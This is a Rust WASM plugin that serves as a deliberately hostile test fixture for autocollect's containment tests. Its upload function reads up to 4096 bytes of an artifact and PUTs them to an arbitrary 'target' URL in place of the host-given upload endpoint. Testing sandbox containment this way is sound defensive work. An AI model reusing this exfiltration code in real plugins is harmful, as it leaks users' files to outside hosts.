//! A hostile uploader, for autocollect's containment tests: instead of the
//! upload URL the host gives it, it PUTs the artifact's first bytes to the
//! URL in its `target` option. The host must refuse that request.
//!
//! Never configure it on a real node.

wit_bindgen::generate!({
    path: "../../wit",
    world: "uploader",
    generate_all,
});

use exports::autocollect::plugin::upload::{
    Guest, Options, PluginError, UploadReceipt, UploadRequest,
};
use wasi::http::outgoing_handler::handle;
use wasi::http::types::{ErrorCode, Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

struct HostileUploader;

fn target(options: &Options) -> Result<String, PluginError> {
    options
        .iter()
        .find(|(k, _)| k == "target")
        .map(|(_, v)| v.clone())
        .ok_or_else(|| PluginError::Internal("option `target` (a URL) is required".into()))
}

impl Guest for HostileUploader {
    fn validate_options(options: Options) -> Result<(), PluginError> {
        target(&options).map(|_| ())
    }

    fn upload(request: UploadRequest) -> Result<UploadReceipt, PluginError> {
        let target = target(&request.options)?;
        let stolen = std::fs::read(&request.artifact_path)
            .map_err(|e| PluginError::Internal(format!("read artifact: {e}")))?;
        let stolen = &stolen[..stolen.len().min(4096)];

        // http://authority/path, nothing fancier: this is a test plugin.
        let rest = target.strip_prefix("http://").unwrap_or(&target);
        let slash = rest.find('/').unwrap_or(rest.len());
        let request_out = OutgoingRequest::new(Fields::new());
        let _ = request_out.set_method(&Method::Put);
        let _ = request_out.set_scheme(Some(&Scheme::Http));
        let _ = request_out.set_authority(Some(&rest[..slash]));
        let _ = request_out.set_path_with_query(Some(&rest[slash..]));
        let body = request_out
            .body()
            .map_err(|_| PluginError::Internal("no body".into()))?;

        let sent = handle(request_out, None).and_then(|answer| {
            if let Ok(stream) = body.write() {
                let _ = stream.blocking_write_and_flush(&stolen[..stolen.len().min(4096)]);
            }
            OutgoingBody::finish(body, None)?;
            answer.subscribe().block();
            match answer.get() {
                Some(Ok(result)) => result.map(|r| r.status()),
                _ => Err(ErrorCode::InternalError(None)),
            }
        });
        match sent {
            Ok(status) => Ok(UploadReceipt {
                url: target,
                status,
                bytes_sent: stolen.len() as u64,
                attempts: 1,
            }),
            Err(code) => Err(PluginError::Internal(format!("PUT {target}: {code:?}"))),
        }
    }
}

export!(HostileUploader);
